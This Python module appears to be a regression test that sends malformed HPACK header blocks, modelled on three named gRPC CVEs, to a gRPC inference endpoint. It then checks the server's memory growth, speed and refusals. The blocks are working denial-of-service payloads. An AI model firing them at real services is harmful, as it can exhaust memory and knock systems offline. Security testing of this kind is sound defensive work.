"""Headers of known vulnerabilities of gRPC, or that expand: of a type whose size it cannot compute
(CVE-2023-1428), strings and numbers without an end (CVE-2023-33953), an unsupported encoding
(CVE-2023-32732), and many references to one entry of the table."""

import contextlib

import http2

FLAGS = []
SHORT = {"rounds": 1}
FULL = {"rounds": 20}
PATH = "/recurve.v1.Inference/Generate"


def number(value, prefix):
    """An integer of RFC 7541, section 5.1."""
    most = (1 << prefix) - 1
    if value < most:
        return bytes([value])
    value, encoded = value - most, [most]
    while value >= 128:
        encoded.append(value % 128 + 128)
        value //= 128
    return bytes([*encoded, value])


def field(name, value, indexed=False):
    return b"".join([b"\x40" if indexed else b"\0", number(len(name), 7), name, number(len(value), 7), value])


def blocks():
    usual = http2.header_block(PATH)
    pads = {size: field(b"x-pad", b"y" * 1000) * (size // 1000) for size in (9_000, 20_000, 40_000)}
    for bad in ((b"te", b"x"), (b":scheme", b"x"), (b"grpclb_client_stats", b"x"), (b"x-bin", b"*" * 999)):
        for pad in pads.values():
            yield field(*bad) + usual + pad
            yield usual + field(*bad) + pad
    yield usual + b"\0" + number(1, 7) + b"x" + number(1 << 31, 7) + b"y" * 60_000
    yield usual + b"\0" + b"\x7f" + b"\x80" * 60_000 + b"\0"
    # 62 is the first dynamic entry of the table: 4,000 bytes each.
    yield usual + field(b"x-large", b"y" * 3900, indexed=True) + b"\xbe" * 50_000


def attack(address, rounds):
    sent = 0
    for _ in range(rounds):
        for block in blocks():
            connection = http2.Connection(address, "127.0.0.2", timeout=0.3)
            parts = [block[at:at + 16_000] for at in range(0, len(block), 16_000)]
            with contextlib.suppress(OSError):
                for i, part in enumerate(parts):
                    kind = http2.CONTINUATION if i else http2.HEADERS
                    flags = http2.END_HEADERS if i == len(parts) - 1 else 0
                    connection.socket.sendall(http2.frame(kind, flags, 1, part))
                while 1 not in connection.ended and connection.goaway is None and connection.read():
                    pass
            connection.close()
            sent += 1
    return f"{sent} header blocks"


def check(result, size):
    if result.grown() > 100e6:
        yield f"resident memory grew by {result.grown() / 1e6:.0f} MB, wanted under 100"
    yield from result.too_slow()
    yield from result.refusals()
